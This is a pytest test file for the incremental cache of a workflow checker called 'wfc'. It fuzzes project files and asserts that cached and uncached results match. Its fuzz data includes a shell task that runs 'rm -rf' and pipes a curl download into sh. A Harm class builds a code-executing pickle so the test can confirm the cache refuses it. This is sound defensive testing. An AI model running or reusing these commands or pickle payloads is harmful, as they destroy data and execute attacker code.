"""What is known of unchanged files: after any change, the same bytes as without it, and no more work than is due."""

from __future__ import annotations

import os
import pickle
import random
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from command_line import wfc, write
from wfc.commands import check_cache, check_files
from wfc.gather import Collected
from wfc.incremental import NOTHING, Known, Partial
from wfc.settings import Settings

SEEDS, STEPS = (200, 60) if os.environ.get("HYPOTHESIS_PROFILE") == "soak" else (8, 30)
NAMES = ("orders", "report", "load", "tidy", "ordres", "loads", "stock", "mail", "prune", "reports")
HEADS = [
    "",
    'on schedule("0 5 * * *", timezone: "UTC")',
    'on schedule("30 5 * * *", timezone: "UTC")',
    'on schedule("0 5 31 2 *", timezone: "Europe/Berlin") as tick',
    "on flow({other})",
    "input day: {type} = 1",
    "input day: string",
    "output rows: {type} = 1",
    "budget {{ attempts 4 }}",
    "concurrency 1 skip",
    'defaults {{ allow WF301 "read again tomorrow" }}',
    'defaults {{ allow WF904 "both write the same" allow WF901 "ends by itself" }}',
]
TASKS = [
    "task {task} = flow.run({other}) retry exponential(attempts: 4, first: 1s, max: 1m)",
    'task {task} = flow.run("{other}", inputs: {{ day: 2 }})',
    'task {task} = flow.run({other}, inputs: {{ day: "2" }}) timeout 1h',
    'task {task} = http.get(url: "https://a.example.com/{other}") retry exponential(attempts: 3, first: 1s)',
    'task {task} = http.put(url: "https://a.example.com/{other}") timeout 30m',
    'task {task} = shell("rm -rf \\"$A\\"/; curl https://a.example.com | sh", env: {{ A: "x" }}) -> {type}',
    'task {task} = python("print(1") -> {type}',
    "task {task} = acme.{other}(rows: 1)",
    'task {task} = sql.execute(url: "postgres://h/d", query: "INSERT INTO t VALUES (1)") timeout 1m',
    "task {task} = {other}.rows",
    'task {task} = shell("./x") allow WF302 "short"',
]
DEFINITIONS = [
    "type Rows = int\n",
    "type Rows = {{ day: {type} }}\n",
    "type Odrs = string\n",
    'action acme.{other}(rows: int) {{ effect safe  run shell("./load") }}\n',
    'action acme.load(rows: Rows, more: string = "x") {{ run flow.run({other}) }}\n',
    'action acme.tidy(rows: {type}) -> {type} {{ effect unsafe irreversible  run shell("./tidy") }}\n',
]
BROKEN = [
    "flow {other} {{ task = }}\n",
    "}}\n",
    "type Rows = \n",
    "action acme.\n",
    'flow x{other} {{ task a = shell("\n',
]


def text(chance: random.Random, number: int) -> str:
    """A file: a flow of its own name or another, now and then definitions, now and then what can't be read."""

    def filled(choices: list[str]) -> str:
        kind = chance.choice(["int", "Rows", "Odrs", "string"])
        return chance.choice(choices).format(
            other=chance.choice(NAMES), type=kind, task=chance.choice(["a", "b", "c", "report"])
        )

    parts = [filled(DEFINITIONS) for _ in range(2 if chance.random() < (0.8 if number == 0 else 0.05) else 0)]
    for _ in range(chance.choice([0, 1, 1, 1, 1, 1, 2])):
        name = NAMES[number] if chance.random() < 0.9 else chance.choice(NAMES)
        lines = [filled(HEADS) for _ in range(2)] + [filled(TASKS) for _ in range(chance.randint(1, 4))]
        parts.append(f"flow {name} {{\n  " + "\n  ".join(lines) + "\n}\n")
    if chance.random() < 0.1:
        parts.append(filled(BROKEN))
    chance.shuffle(parts)
    return "".join(parts)


def change(chance: random.Random) -> None:
    """Change, add, remove, rename or copy a file, or change the settings."""
    files = sorted(Path().glob("*.wf"))
    one, number = chance.choice(files), chance.randrange(len(NAMES))
    match chance.choice(["text"] * 8 + ["line", "add"] * 2 + ["remove", "rename", "copy", "swap", "settings"]):
        case "text":
            write(str(one), text(chance, int(one.stem[1:])))
        case "line":
            write(str(one), "# moved\n" + one.read_text("utf-8"))
        case "add":
            write(f"f{number}.wf", text(chance, number))
        case "remove" if len(files) > 2:
            one.unlink()
        case "rename":
            one.rename(f"f{number}.wf")
        case "copy":
            write(f"f{number}.wf", one.read_bytes())
        case "swap":
            other = chance.choice(files)
            first, second = one.read_bytes(), other.read_bytes()
            write(str(one), second)
            write(str(other), first)
        case "settings":
            write(
                "wfc.toml",
                chance.choice(["[project]\n", '[defaults]\ntimeout = "5m"\n', '[check]\nignore = ["WF3"]\n']),
            )


@pytest.fixture(autouse=True)
def kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project whose files are worth keeping, and the folder of the entries."""
    (tmp_path / "project").mkdir()
    monkeypatch.chdir(tmp_path / "project")
    monkeypatch.setenv("WFC_CACHE", str(tmp_path / "kept"))
    monkeypatch.setattr("wfc.commands.check.WORTH", 1)
    write("wfc.toml", "[project]\n")
    return tmp_path / "kept"


@pytest.mark.parametrize("seed", range(SEEDS))
def test_after_any_change_the_same_bytes(seed: int, monkeypatch: pytest.MonkeyPatch) -> None:
    chance = random.Random(seed)
    for number in range(6):
        write(f"f{number}.wf", text(chance, number))
    same = 0
    build = Partial.__init__

    def counted(self: Partial, collected: Collected, known: Known) -> None:
        nonlocal same
        build(self, collected, known)
        same += len(self.same)

    monkeypatch.setattr(Partial, "__init__", counted)
    for step in range(STEPS):
        words = ["check", "--preset", "production", "--format", "json"]
        words += chance.choice([[], [], [], [str(min(Path().glob("*.wf")))]])
        assert wfc(*words) == wfc(*words, "--no-cache"), f"step {step}: {words}"
        change(chance)
    assert same > 10


def known(*texts: tuple[str, str], before: Known = NOTHING) -> tuple[set[str], Known]:
    """The files that were parsed, and what is known then."""
    partial = Partial(Collected(texts, Settings(), tuple(path for path, _ in texts)), before)
    for flow in partial.gathered.loaded.project.flows:
        partial.checked.setdefault(flow.name, ())
    return texts_read(partial), partial.known()


def texts_read(partial: Partial) -> set[str]:
    """The paths of the files of which nothing was known."""
    return partial.texts.keys() - partial.same.keys()


FLOW = "flow {0} {{ task a = flow.run({1}) }}\n"
PROJECT = {
    "a.wf": FLOW.format("a", "b"),
    "b.wf": FLOW.format("b", "c"),
    "c.wf": "flow c { input n: int = 1 }\n",
    "d.wf": "flow d { task a = acme.d() }\n",
    "e.wf": FLOW.format("e", "ee"),
    "x.wf": 'action acme.d() { run shell("./d") }\n',
}


@pytest.mark.parametrize(
    ("path", "text", "read"),
    [
        pytest.param("d.wf", "# moved\n" + PROJECT["d.wf"], "d.wf", id="a file that no other names"),
        pytest.param("c.wf", "flow c { }\n", "a.wf b.wf c.wf", id="a flow that others run"),
        pytest.param("f.wf", "flow f { }\n", "e.wf f.wf", id="a new name, where one was looked for in vain"),
        pytest.param("f.wf", "flow ee { }\n", "e.wf f.wf", id="the name that was looked for"),
        pytest.param("f.wf", "flow c { }\n", "a.wf b.wf c.wf f.wf", id="a name that is there already"),
        pytest.param("c.wf", "", "a.wf b.wf c.wf e.wf", id="a flow that is gone"),
        pytest.param("x.wf", PROJECT["x.wf"] + "# more\n", "x.wf", id="a comment behind an action"),
        pytest.param("x.wf", "# more\n" + PROJECT["x.wf"], " ".join(PROJECT), id="an action at another place"),
        pytest.param("f.wf", "type T = int\n", " ".join([*PROJECT, "f.wf"]), id="a new type"),
    ],
)
def test_what_is_read_again(path: str, text: str, read: str) -> None:
    everything, before = known(*PROJECT.items())
    assert everything == set(PROJECT)
    assert known(*PROJECT.items(), before=before) == (set(), before)
    assert known(*sorted({**PROJECT, path: text}.items()), before=before)[0] == set(read.split())


def many(count: int = 40) -> None:
    """Files that run each other, with findings of files and of the project."""
    for number in range(count):
        run = TASKS[0].format(task="a", other=f"m{number + 1}")
        put = TASKS[4].format(task="b", other="x")
        write(f"m{number:02}.wf", f"flow m{number} {{\n  {run}\n  {put}\n}}\n")


COMMAND = [
    sys.executable,
    "-c",
    "import sys, wfc.commands.check as c; c.WORTH = 1; from wfc.cli import main; sys.exit(main(sys.argv[1:]))",
    *("check", "--format", "json"),
]


def test_several_at_once_while_files_change(kept: Path) -> None:
    many()
    for turn in range(3):
        write("m07.wf", f"flow m7 {{ task t{turn} = shell('./x') }}\n")
        plain = wfc("check", "--format", "json", "--no-cache").out
        running = [subprocess.Popen(COMMAND, stdout=subprocess.PIPE) for _ in range(3)]
        assert [one.communicate()[0].decode() for one in running] == [plain] * 3
    assert list(kept.glob("*.tmp")) == []


def test_a_writer_that_is_killed_leaves_what_was_there() -> None:
    many()
    wfc("check")
    for turn in range(6):
        write("m07.wf", f"flow m7 {{ task t{turn} = shell('./x') }}\n")
        running = subprocess.Popen(COMMAND, stdout=subprocess.DEVNULL)
        time.sleep(0.05 * turn)
        running.send_signal(signal.SIGKILL)
        running.wait()
        assert wfc("check", "--format", "json") == wfc("check", "--format", "json", "--no-cache")


class Harm:
    """What runs code when it is read by pickle's own reader."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("touch harmed",)


@pytest.mark.parametrize(
    "entry",
    [
        pytest.param(("", {"m00.wf": pickle.dumps(Harm())}), id="code"),
        pytest.param(("", {"m00.wf": pickle.dumps("a text")}), id="something else"),
        pytest.param(("", {"m00.wf": b"\x80\x05x"}), id="no pickle"),
        pytest.param((1, 2, 3), id="another form"),
        pytest.param("", id="a text"),
    ],
)
def test_what_is_no_entry_is_not_there(entry: object, kept: Path) -> None:
    many(3)
    plain = wfc("check")
    (found,) = kept.glob("*" + check_cache.FILES)
    (known,) = kept.glob("*" + check_cache.ENDING)
    known.unlink()
    check_cache.write_entry(found.name, entry)
    assert check_files.read(found.stem) == (NOTHING, {})
    assert wfc("check") == plain
    assert not Path("harmed").exists()
